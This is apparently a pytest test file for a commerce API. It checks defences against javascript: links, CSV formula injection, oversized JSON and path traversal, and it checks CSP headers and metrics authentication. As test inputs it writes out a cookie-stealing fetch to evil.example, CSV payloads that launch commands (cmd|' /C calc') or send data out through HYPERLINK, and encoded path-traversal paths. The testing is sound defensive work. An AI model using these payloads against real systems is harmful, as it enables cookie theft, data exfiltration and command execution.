"""Injection and bad input (issue 12): ``javascript:`` links, CSP and friends, CSV formula
injection, and requests that used to end in a 500 now get a clear 4xx."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json

import pytest
from sqlalchemy import update

from api.exports import safe_cell
from api.runtime import Runtime
from api.worker import run_once
from feeds.parsing import parse_acp_jsonl, parse_openai_flat
from feeds.schemas import ProductRecord, RejectedRow
from models import Fulfillment
from tests.conftest import AGENT_KEY, Agent, app_client, sandbox_runtime
from tests.fake_shopify import FakeShopify, delivery
from tests.test_dashboard import csrf_of, log_in
from tests.test_dashboard import site as site  # noqa: F401 (fixture)
from tests.test_shopify import buyer as buyer  # noqa: F401 (fixture)
from tests.test_shopify import detail, forwarded_order, post
from tests.test_shopify import fake_shopify as fake_shopify  # noqa: F401 (fixture)
from tests.test_shopify import shop_runtime as shop_runtime  # noqa: F401 (fixture)

MERCHANT = {"Authorization": "Bearer merchant-key"}
pytestmark = pytest.mark.httpx_mock(should_mock=lambda r: r.url.host != "127.0.0.1")
SCRIPT_URLS = ["javascript:alert(document.domain)", "JaVaScRiPt:alert(1)",
               "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/x"]


async def _order(seller: Agent) -> dict:
    session = await seller.ready_session()
    resp = await seller.complete(session["id"], buyer={"email": "ada@example.com"})
    assert resp.status_code == 200, resp.text
    return dict(resp.json()["order"])


# ------------------------------------------------------------------ javascript: links


@pytest.mark.parametrize("url", SCRIPT_URLS)
async def test_merchant_api_refuses_script_tracking_urls(seller: Agent, url: str,
                                                         backend: str) -> None:
    order = await _order(seller)
    resp = await seller.http.post(f"/orders/{order['id']}/fulfillments", json={
        "carrier": "UPS", "tracking_number": "1Z", "tracking_url": url},
        headers={**MERCHANT, "Idempotency-Key": f"ship-{url}"})
    assert resp.status_code == 400, resp.text
    assert resp.json()["param"] == "$.tracking_url"
    info = (await seller.http.get(f"/orders/{order['id']}", headers=MERCHANT)).json()
    assert info["acp_order"]["fulfillments"] == []


async def test_dashboard_form_refuses_script_tracking_url(site, backend: str  # noqa: F811
                                                          ) -> None:
    client, _ = site
    order = await _order(Agent(client))
    await log_in(client)
    token = csrf_of((await client.get(f"/dashboard/orders/{order['id']}")).text)
    resp = await client.post(f"/dashboard/orders/{order['id']}/ship", data={
        "csrf_token": token, "carrier": "UPS", "tracking_number": "1Z",
        "tracking_url": "javascript:alert(document.cookie)"})
    page = await client.get(resp.headers["location"])
    assert "tracking_url must be an absolute http or https URL" in page.text
    assert "javascript:" not in page.text


async def test_shopify_script_tracking_url_is_dropped_shipment_kept(
        buyer: Agent, shop_runtime: Runtime, fake_shopify: FakeShopify,  # noqa: F811
        backend: str) -> None:
    order = await forwarded_order(buyer, shop_runtime)
    payload = fake_shopify.fulfillment_payload(order["id"], skus=[("item_123", 2),
                                                                  ("few-left", 1)])
    payload["tracking_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
    payload["tracking_urls"] = [payload["tracking_url"]]
    raw, headers = delivery("fulfillments/create", payload)
    assert (await post(buyer, raw, headers)).status_code == 200
    await run_once(shop_runtime)
    shipped = (await detail(buyer, order["id"]))["acp_order"]["fulfillments"]
    assert len(shipped) == 1
    assert shipped[0]["tracking_number"] == "1Z999AA10123456784"
    assert "tracking_url" not in shipped[0] or shipped[0]["tracking_url"] is None


async def test_stored_script_links_are_never_rendered(site, backend: str  # noqa: F811
                                                      ) -> None:
    """Rows written before validation existed: the pages render no link for them."""
    client, rt = site
    seller = Agent(client)
    order = await _order(seller)
    resp = await client.post(f"/orders/{order['id']}/fulfillments", json={
        "tracking_number": "1Z", "tracking_url": "https://ups.test/t"},
        headers={**MERCHANT, "Idempotency-Key": "ship"})
    assert resp.status_code == 201, resp.text
    async with rt.sessionmaker() as db, db.begin():
        await db.execute(update(Fulfillment).values(tracking_url="javascript:alert(1)"))
    await log_in(client)
    page = await client.get(f"/dashboard/orders/{order['id']}")
    assert "1Z" in page.text
    assert "javascript:" not in page.text
    status = await client.get(f"/order-status/{order['id']}",
                              params={"email": "ada@example.com"})
    assert status.status_code == 200
    assert "javascript:" not in status.text


@pytest.mark.parametrize("field", ["published_url", "source_url", "thumbnail_url"])
async def test_video_urls_must_be_http(seller: Agent, field: str, backend: str) -> None:
    resp = await seller.http.post("/videos", json={"id": "v1", field: "javascript:alert(1)"},
                                  headers={**MERCHANT, "Idempotency-Key": field})
    assert resp.status_code == 400, resp.text
    assert resp.json()["param"] == f"$.{field}"


def test_catalog_import_rejects_script_urls() -> None:
    base = {"id": "p1", "title": "Tee", "variants": [
        {"id": "p1-s", "title": "Tee S", "price": {"amount": 1999, "currency": "USD"}}]}
    bad_product = {**base, "url": "javascript:alert(1)"}
    bad_variant = json.loads(json.dumps(base))
    bad_variant["variants"][0]["url"] = "javascript:alert(1)"
    bad_image = json.loads(json.dumps(base))
    bad_image["variants"][0]["media"] = [{"type": "image", "url": "data:image/svg+xml,<svg>"}]
    parsed = list(parse_acp_jsonl([json.dumps(base), json.dumps(bad_product),
                                   json.dumps(bad_variant), json.dumps(bad_image)]))
    assert isinstance(parsed[0][1], ProductRecord)
    assert [isinstance(p, RejectedRow) for _, p in parsed[1:]] == [True, True, True]
    rows = ["id,title,price,url,image_link",
            "a,A,10.00 USD,https://shop.test/a,https://shop.test/a.jpg",
            "b,B,10.00 USD,javascript:alert(1),https://shop.test/b.jpg",
            "c,C,10.00 USD,https://shop.test/c,javascript:alert(1)"]
    flat = list(parse_openai_flat(rows, ","))
    rejected = [p for _, p in flat if isinstance(p, RejectedRow)]
    assert [r.line for r in rejected] == [3, 4]
    assert "url" in rejected[0].reason


def test_policy_links_must_be_http() -> None:
    from pydantic import ValidationError

    from checkout.profile import MerchantProfile

    with pytest.raises(ValidationError):
        MerchantProfile(terms_url="javascript:alert(1)")
    assert MerchantProfile(terms_url="https://shop.test/terms").terms_url.startswith("https")


# ------------------------------------------------------------------ headers on pages


async def test_html_pages_carry_csp_nosniff_referrer_policy(site, backend: str  # noqa: F811
                                                            ) -> None:
    client, _ = site
    order = await _order(Agent(client))
    login = await client.get("/dashboard/login")
    await log_in(client)
    pages = [login, await client.get("/dashboard/orders"),
             await client.get(f"/dashboard/orders/{order['id']}"),
             await client.get(f"/order-status/{order['id']}")]
    for page in pages:
        assert page.status_code == 200
        assert page.headers["content-type"].startswith("text/html")
        csp = page.headers["content-security-policy"]
        assert "default-src 'self'" in csp
        assert "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["referrer-policy"] == "no-referrer"
        assert "<script>" not in page.text
        assert "<style" not in page.text
        assert " style=" not in page.text
    docs = await client.get("/docs")
    assert "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    assert "<script>" not in docs.text  # only <script src=...>
    assert (await client.get("/static/dashboard.css")).status_code == 200
    api = await client.get("/healthz")
    assert api.headers["x-content-type-options"] == "nosniff"


# ------------------------------------------------------------------ CSV formula injection


def test_safe_cell_neutralises_formulas_keeps_numbers() -> None:
    for value in ("=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1"):
        assert safe_cell(value) == "'" + value
    for kept in (-500, 12, None, "-500", "-1.25", "plain", "a=b"):
        assert safe_cell(kept) == kept


async def test_finance_and_dashboard_csv_neutralise_formulas(site, backend: str  # noqa: F811
                                                             ) -> None:
    client, _ = site
    agent = Agent(client)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    session = (await agent.create(line_items=[{"id": "item_123"}],
                                  fulfillment_details={"address": {
                                      "name": "Ada", "line_one": "1 Market St",
                                      "city": "San Francisco", "state": "CA",
                                      "country": "US", "postal_code": "94105"}},
                                  metadata={"video_id": formula})).json()
    assert (await agent.complete(session["id"])).status_code == 200
    resp = await client.post("/videos", json={"id": "vid-x", "title": "-2+3+cmd|' /C calc'!A0",
                                              "campaign": "+evil"},
                             headers={**MERCHANT, "Idempotency-Key": "vx"})
    assert resp.status_code == 201, resp.text
    exported = await client.get("/finance/revenue", params={"group_by": "video",
                                                           "format": "csv"}, headers=MERCHANT)
    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
    assert "'" + formula in cells
    assert formula not in cells
    await log_in(client)
    videos = await client.get("/dashboard/videos", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(videos.text)))
    row = next(r for r in rows if r["id"] == "vid-x")
    assert row["title"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["campaign"] == "'+evil"


# ------------------------------------------------------------------ 500s that are now 4xx


async def test_marking_a_manual_shipment_delivered(seller: Agent, backend: str) -> None:
    order = await _order(seller)
    shipped = await seller.http.post(f"/orders/{order['id']}/fulfillments", json={
        "carrier": "UPS", "tracking_number": "1Z"},
        headers={**MERCHANT, "Idempotency-Key": "ship"})
    assert shipped.status_code == 201, shipped.text
    fid = shipped.json()["acp_order"]["fulfillments"][0]["id"]
    for key in ("d1", "d2"):  # and again: still one fulfilment
        resp = await seller.http.post(f"/orders/{order['id']}/fulfillments/{fid}",
                                      json={"status": "delivered"},
                                      headers={**MERCHANT, "Idempotency-Key": key})
        assert resp.status_code == 200, resp.text
    fulfillments = resp.json()["acp_order"]["fulfillments"]
    assert [(f["id"], f["status"]) for f in fulfillments] == [(fid, "delivered")]


def _nested(depth: int) -> dict:
    value: dict = {"leaf": 1}
    for _ in range(depth):
        value = {"n": value}
    return value


@pytest.mark.parametrize(("metadata", "code", "param_start"), [
    (json.dumps(_nested(300)), "json_too_deep", "$.metadata.n.n.n"),
    ('{"big": 18446744073709551616}', "integer_out_of_range", "$.metadata.big"),
    ('{"list": [1, -18446744073709551616]}', "integer_out_of_range", "$.metadata.list[1]"),
    ('{"huge": ' + "9" * 5000 + "}", "integer_out_of_range", "$.metadata.huge"),
])
async def test_json_bodies_are_bounded(agent: Agent, metadata: str, code: str,
                                       param_start: str, backend: str) -> None:
    body = ('{"currency": "usd", "capabilities": {}, "line_items": [{"id": "item_123"}], '
            f'"metadata": {metadata}}}')
    resp = await agent.http.post("/checkout_sessions", content=body, headers={
        **agent.headers("deep"), "Content-Type": "application/json"})
    assert resp.status_code == 400, resp.text
    error = resp.json()
    assert (error["type"], error["code"]) == ("invalid_request", code)
    assert error["param"].startswith(param_start)


async def test_json_limits_apply_to_merchant_bodies_and_utf16(seller: Agent,
                                                               backend: str) -> None:
    resp = await seller.http.post("/videos", content=json.dumps(
        {"id": "v", "title": "t", "x": 2**70}), headers={
        **MERCHANT, "Idempotency-Key": "v", "Content-Type": "application/json"})
    assert resp.status_code == 400
    assert resp.json()["param"] == "$.x"
    utf16 = json.dumps({"id": "v2"}).encode("utf-16")
    resp = await seller.http.post("/videos", content=utf16, headers={
        **MERCHANT, "Idempotency-Key": "v2", "Content-Type": "application/json"})
    assert resp.status_code == 400
    assert resp.json()["code"] == "invalid_json"
    ok = await seller.create(line_items=[{"id": "item_123"}],
                             metadata={"fine": 2**63 - 1, "deep": _nested(20)})
    assert ok.status_code == 201, ok.text


async def test_empty_parent_video_id_is_a_400(seller: Agent, backend: str) -> None:
    resp = await seller.http.post("/videos", json={"id": "v1", "parent_video_id": ""},
                                  headers={**MERCHANT, "Idempotency-Key": "pv"})
    assert resp.status_code == 400, resp.text
    assert resp.json()["param"] == "$.parent_video_id"


@pytest.mark.parametrize("path", ["/finance/revenue", "/finance/reconciliation"])
@pytest.mark.parametrize(("start", "end"), [
    ("0001-01-01T00:00:00+01:00", "2026-01-01T00:00:00Z"),
    ("0001-01-01T00:00:00Z", "0001-01-02T00:00:00Z"),
    ("2026-01-01T00:00:00Z", "9999-12-31T23:59:59-01:00"),
])
async def test_extreme_report_dates_are_400(seller: Agent, path: str, start: str, end: str,
                                            backend: str) -> None:
    resp = await seller.http.get(path, params={"from": start, "to": end}, headers=MERCHANT)
    assert resp.status_code == 400, resp.text
    assert resp.json()["param"].rsplit(".", 1)[-1] in ("from", "to")


async def test_dashboard_finance_ignores_extreme_dates(site, backend: str  # noqa: F811
                                                       ) -> None:
    client, _ = site
    await log_in(client)
    for fmt in ("html", "csv", "recon"):
        resp = await client.get("/dashboard/finance", params={
            "from": "0001-01-01", "to": "9999-12-31", "format": fmt})
        assert resp.status_code == 200, (fmt, resp.text[:300])


async def test_shopify_utf16_body_with_valid_hmac_is_400(
        buyer: Agent, shop_runtime: Runtime, fake_shopify: FakeShopify,  # noqa: F811
        backend: str) -> None:
    raw = json.dumps({"id": 1}).encode("utf-16")
    digest = base64.b64encode(hmac.new(b"shopify-client-secret", raw,
                                       hashlib.sha256).digest()).decode()
    _, headers = delivery("orders/cancelled", {"id": 1})
    headers = {**headers, "X-Shopify-Hmac-Sha256": digest}
    resp = await post(buyer, raw, headers)
    assert resp.status_code == 400, resp.text
    assert resp.json()["type"] == "invalid_request"


# ------------------------------------------------------------------ report and metrics


async def test_feed_report_needs_the_merchant_key(database_url: str, tmp_path,
                                                  backend: str) -> None:
    (tmp_path / "report.json").write_text('{"validation": {"items": 1}}')
    (tmp_path / "acp").mkdir()
    (tmp_path / "acp" / "metadata.json").write_text("{}")
    async with sandbox_runtime(database_url, feeds_dir=tmp_path,
                               merchant_api_keys=["merchant-key"]) as rt, \
            app_client(rt) as client:
        assert (await client.get("/feeds/report.json")).status_code == 401
        assert (await client.get("/feeds/report.json", headers={
            "Authorization": f"Bearer {AGENT_KEY}"})).status_code == 401
        for sneaky in ("/feeds/acp/..%2Freport.json", "/feeds/.%2Freport.json",
                       "/feeds/acp/../report.json"):
            assert (await client.get(sneaky)).status_code in (401, 404), sneaky
        ok = await client.get("/feeds/report.json", headers=MERCHANT)
        assert ok.json() == {"validation": {"items": 1}}
        assert (await client.get("/feeds/acp/metadata.json")).status_code == 200  # public


async def test_metrics_behind_an_optional_bearer_token(database_url: str,
                                                       backend: str) -> None:
    async with sandbox_runtime(database_url) as rt, app_client(rt) as client:
        assert (await client.get("/metrics")).status_code == 200  # not set: open
    async with sandbox_runtime(database_url, metrics_token="scrape-secret-123") as rt, \
            app_client(rt) as client:
        assert (await client.get("/metrics")).status_code == 401
        assert (await client.get("/metrics", headers={
            "Authorization": "Bearer wrong"})).status_code == 401
        scraped = await client.get("/metrics", headers={
            "Authorization": "Bearer scrape-secret-123"})
        assert scraped.status_code == 200
        assert "reelcart_http_requests_total" in scraped.text
